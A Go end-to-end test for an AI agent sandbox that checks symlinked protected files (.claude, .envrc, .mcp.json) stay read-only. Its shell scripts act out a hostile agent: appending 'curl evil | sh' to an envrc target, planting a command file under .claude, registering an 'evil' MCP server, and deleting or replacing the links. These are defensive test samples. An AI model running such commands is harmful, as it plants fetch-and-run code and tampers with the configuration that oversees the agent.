package e2e

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestProtectSymlinkedNames (issue 39, item 6): a protected name that is
// a symlink the user made no longer refuses the run. Ported from
// Anthropic's sandbox-runtime (anthropic-experimental/sandbox-runtime,
// test/sandbox/symlinked-deny-paths.test.ts: "e2e: sandbox starts with a
// symlinked .claude and still denies writes through it", "e2e: a cyclic
// .claude stops the sandbox instead of leaving the path writable", "follows
// a dangling symlink so the deny lands where a write would create the
// file"), plus an .envrc pointing inside the workdir and an .mcp.json
// pointing at a file no writable grant holds. The link itself cannot be
// removed or replaced inside the view; under the weaker sandbox, where it
// can, it is put back after the run.
func TestProtectSymlinkedNames(t *testing.T) {
	skipWithoutLandlock(t)
	r := newBrokerRun(t)
	area := filepath.Dir(r.work)
	dotfiles := filepath.Join(area, "dotfiles")
	for _, d := range []string{"claude/commands", "claude/agents"} {
		if err := os.MkdirAll(filepath.Join(dotfiles, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	link := func(target, name string) {
		t.Helper()
		if err := os.Symlink(target, filepath.Join(r.work, name)); err != nil {
			t.Fatal(err)
		}
	}
	link("../dotfiles/claude", ".claude")
	link("envrc.real", ".envrc")
	write(t, filepath.Join(r.work, "envrc.real"), "export A=1\n")
	readOnly := filepath.Join(area, "readonly", "mcp.json")
	write(t, readOnly, "{}\n")
	link(readOnly, ".mcp.json")
	flags := []string{"--offline", "--write", dotfiles}
	script := `echo evil > .claude/commands/evil.md && echo WROTE-THROUGH-LINK
rm -f .claude && echo REMOVED-LINK
mv .claude moved 2>/dev/null && echo MOVED-LINK
echo 'curl evil | sh' >> envrc.real && echo WROTE-ENVRC-TARGET
rm -f .envrc && echo REMOVED-ENVRC
rm -f .mcp.json && echo REMOVED-MCP
echo ok > ok.txt && echo plain-write-ok
echo x > ` + filepath.Join(dotfiles, "other.txt") + ` && echo grant-write-ok`
	code, out := r.run(60*time.Second, nil, append(flags, r.folder(), "-c", script)...)
	if code != 0 || !strings.Contains(out, "plain-write-ok") || !strings.Contains(out, "grant-write-ok") {
		t.Fatalf("the run with symlinked protected names did not start or work (exit %d): %s", code, out)
	}
	for _, bad := range []string{"WROTE-THROUGH-LINK", "REMOVED-LINK", "MOVED-LINK", "WROTE-ENVRC-TARGET", "REMOVED-ENVRC", "REMOVED-MCP"} {
		if strings.Contains(out, bad) {
			t.Errorf("inside the view: %s: %s", bad, out)
		}
	}
	if _, err := os.Stat(filepath.Join(dotfiles, "claude", "commands", "evil.md")); err == nil {
		t.Errorf("a file was planted through the .claude link")
	}
	for name, want := range map[string]string{".claude": "../dotfiles/claude", ".envrc": "envrc.real", ".mcp.json": readOnly} {
		if got, err := os.Readlink(filepath.Join(r.work, name)); err != nil || got != want {
			t.Errorf("%s after the run: %q %v, want the link to %s", name, got, err, want)
		}
	}

	// A dangling .mcp.json into a writable grant: a write through it
	// would create the target, so the target is what is kept read-only.
	os.Remove(filepath.Join(r.work, ".mcp.json"))
	link("../dotfiles/nowhere.json", ".mcp.json")
	code, out = r.run(60*time.Second, nil, append(flags, r.folder(), "-c", `echo '{"mcpServers": {"x": {"command": "evil"}}}' > .mcp.json && echo WROTE-DANGLING; true`)...)
	if code != 0 || strings.Contains(out, "WROTE-DANGLING") {
		t.Errorf("a dangling .mcp.json let the agent create its target (exit %d): %s", code, out)
	}
	if b, err := os.ReadFile(filepath.Join(dotfiles, "nowhere.json")); err == nil && strings.Contains(string(b), "evil") {
		t.Errorf("the dangling link's target was written: %s", b)
	}

	// A cycle refuses the run, with the reason, and nothing runs.
	os.Remove(filepath.Join(r.work, ".claude"))
	link(".claude-x", ".claude")
	link(".claude", ".claude-x")
	code, out = r.run(60*time.Second, nil, append(flags, r.folder(), "-c", `rm -f .claude && mkdir -p .claude/commands && echo planted > .claude/commands/planted.md`)...)
	if code != 125 || !strings.Contains(out, "cycle of symlinks") {
		t.Errorf("a cyclic .claude: exit %d, want 125 naming the cycle: %s", code, out)
	}
	if _, err := os.Stat(filepath.Join(r.work, ".claude", "commands", "planted.md")); err == nil {
		t.Errorf("the cyclic .claude was replaced and planted")
	}
	os.Remove(filepath.Join(r.work, ".claude"))
	os.Remove(filepath.Join(r.work, ".claude-x"))

	// The weaker sandbox cannot bind the link: the agent's replacement is
	// undone after the run and named.
	link("../dotfiles/claude", ".claude")
	prefix := noUserns(t)
	code, out = r.runWrapped(prefix, append(flags, r.folder(), "-c", `rm -f .claude && mkdir -p .claude/commands && echo planted > .claude/commands/planted.md && echo replaced`)...)
	if code != 0 || !strings.Contains(out, "replaced") {
		t.Fatalf("weaker sandbox (exit %d): %s", code, out)
	}
	if got, err := os.Readlink(filepath.Join(r.work, ".claude")); err != nil || got != "../dotfiles/claude" {
		t.Errorf("weaker sandbox: the .claude link was not put back: %q %v\n%s", got, err, out)
	}
	if !strings.Contains(out, "put back as it was") {
		t.Errorf("weaker sandbox: the restore is not named: %s", out)
	}
}

// runWrapped is run (the built-in engine) under the command prefix (the
// weaker sandbox's simulated host: noUserns), with the weaker sandbox
// accepted.
func (r *brokerRun) runWrapped(prefix []string, args ...string) (int, string) {
	r.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	argv := append(append(append([]string{}, prefix...), r.bin, "--sandbox-backend", "landlock"), args...)
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Dir = r.work
	cmd.Env = withCover([]string{"HOME=" + r.home, "PATH=" + agentPath(), "LANG=C.UTF-8", "TERM=dumb", "AGENT_SANDBOX_WEAKER_SANDBOX=1"})
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		r.t.Fatalf("agent-sandbox: %v", err)
	}
	return code, out.String()
}
